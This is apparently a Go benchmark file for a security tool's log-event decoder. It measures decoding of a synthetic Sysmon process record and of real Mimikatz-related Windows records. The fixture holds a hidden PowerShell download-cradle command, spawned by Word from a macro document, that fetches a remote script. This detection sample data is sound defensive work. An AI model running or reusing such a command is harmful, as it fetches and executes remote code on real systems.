package event

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"testing"
)

// sysmonFlat is a synthetic process creation in the form NXLog writes, about
// as long and as nested as the median Windows record of the OTRF sets.
const sysmonFlat = `{"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",` +
	`"Level":"4","Keywords":"0x8000000000000000","Channel":"Microsoft-Windows-Sysmon/Operational",` +
	`"Hostname":"teller-17.branch.example","TimeCreated":"2025-03-04T05:06:07.891Z","@timestamp":"2025-03-04T05:06:07.891Z",` +
	`"EventID":1,"Message":"Process Create:\r\nRuleName: -\r\nUtcTime: 2025-03-04 05:06:07.880\r\nProcessGuid: {3d1a5a2b-0001-0002-0300-000000000400}\r\nProcessId: 4711\r\nImage: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\nCommandLine: powershell.exe -nop -w hidden -c iwr http://files.example.com/a.ps1\r\nUser: BRANCH\\teller17",` +
	`"Task":1,"RuleName":"-","UtcTime":"2025-03-04 05:06:07.880","ProcessGuid":"{3d1a5a2b-0001-0002-0300-000000000400}",` +
	`"ProcessId":"4711","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",` +
	`"FileVersion":"10.0.19041.546 (WinBuild.160101.0800)","Description":"Windows PowerShell",` +
	`"Product":"Microsoft\u00ae Windows\u00ae Operating System","Company":"Microsoft Corporation","OriginalFileName":"PowerShell.EXE",` +
	`"CommandLine":"powershell.exe -nop -w hidden -c iwr http://files.example.com/a.ps1","CurrentDirectory":"C:\\Users\\teller17\\",` +
	`"User":"BRANCH\\teller17","LogonGuid":"{3d1a5a2b-0005-0006-0700-000000000400}","LogonId":"0x3e7f","TerminalSessionId":"1",` +
	`"IntegrityLevel":"Medium","Hashes":"MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF,IMPHASH=FEDCBA9876543210FEDCBA9876543210",` +
	`"ParentProcessGuid":"{3d1a5a2b-0007-0008-0900-000000000400}","ParentProcessId":"815","ParentImage":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",` +
	`"ParentCommandLine":"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\teller17\\Downloads\\invoice.docm\""}`

func BenchmarkDecode(b *testing.B) {
	raw := []byte(sysmonFlat)
	b.Run("event.Decoder", func(b *testing.B) {
		d := NewDecoder(Limits{})
		b.SetBytes(int64(len(raw)))
		b.ReportAllocs()
		for b.Loop() {
			if _, err := d.Decode(raw); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("event.Decode", func(b *testing.B) {
		b.SetBytes(int64(len(raw)))
		b.ReportAllocs()
		for b.Loop() {
			if _, err := Decode(raw, Limits{}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("check", func(b *testing.B) {
		d := NewDecoder(Limits{})
		b.SetBytes(int64(len(raw)))
		for b.Loop() {
			if err := d.Check(raw); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("encoding-json", func(b *testing.B) {
		b.SetBytes(int64(len(raw)))
		b.ReportAllocs()
		for b.Loop() {
			var m map[string]any
			if err := json.Unmarshal(raw, &m); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkField(b *testing.B) {
	e, err := Decode([]byte(sysmonFlat), Limits{})
	if err != nil {
		b.Fatal(err)
	}
	for _, name := range []string{"CommandLine", "ParentImage", "Provider_Name", "NoSuchField"} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				e.Field(name)
			}
		})
	}
}

func BenchmarkObservables(b *testing.B) {
	e, err := Decode([]byte(sysmonFlat), Limits{})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.SetBytes(int64(len(sysmonFlat)))
	for b.Loop() {
		if len(e.Observables()) == 0 {
			b.Fatal("none")
		}
	}
}

func BenchmarkTime(b *testing.B) {
	e, err := Decode([]byte(sysmonFlat), Limits{})
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if _, ok := e.Time(); !ok {
			b.Fatal("no time")
		}
	}
}

// BenchmarkRealWindows decodes and flattens real records, and for comparison
// has encoding/json read the same.
func BenchmarkRealWindows(b *testing.B) {
	data := os.Getenv("ASPIS_DATA")
	if data == "" {
		b.Skip("ASPIS_DATA is not set")
	}
	records, size := realRecords(b, filepath.Join(data, "events/windows/credential_access/empire_mimikatz_logonpasswords.zip"))
	run := func(name string, f func(raw []byte) error) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(size / int64(len(records)))
			i := 0
			for b.Loop() {
				if err := f(records[i%len(records)]); err != nil {
					b.Fatal(err)
				}
				i++
			}
		})
	}
	d := NewDecoder(Limits{})
	run("decode", func(raw []byte) error { _, err := d.Decode(raw); return err })
	run("decode-observables", func(raw []byte) error {
		e, err := d.Decode(raw)
		if err == nil {
			e.Observables()
		}
		return err
	})
	run("encoding-json", func(raw []byte) error { var m map[string]any; return json.Unmarshal(raw, &m) })
}

func realRecords(b *testing.B, path string) (records [][]byte, size int64) {
	b.Helper()
	archive, err := zip.OpenReader(path)
	if err != nil {
		b.Fatal(err)
	}
	defer archive.Close()
	for _, f := range archive.File {
		r, err := f.Open()
		if err != nil {
			b.Fatal(err)
		}
		all, err := io.ReadAll(r)
		if err != nil {
			b.Fatal(err)
		}
		for line := range bytes.Lines(all) {
			records = append(records, bytes.TrimSpace(line))
			size += int64(len(line))
		}
	}
	return records, size
}
